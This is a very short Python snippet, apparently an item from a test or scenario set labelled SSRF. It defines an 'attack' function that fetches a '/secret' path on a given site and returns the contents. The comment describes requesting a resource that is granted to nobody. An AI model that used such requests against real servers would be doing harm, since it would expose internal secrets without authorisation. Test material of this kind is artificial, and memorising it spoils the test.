# A server of this machine is asked for that is granted to nobody.
# after: connect
# source: SSRF
def attack(site, **_):
    return {"text": fetch(site + "/secret").text()}
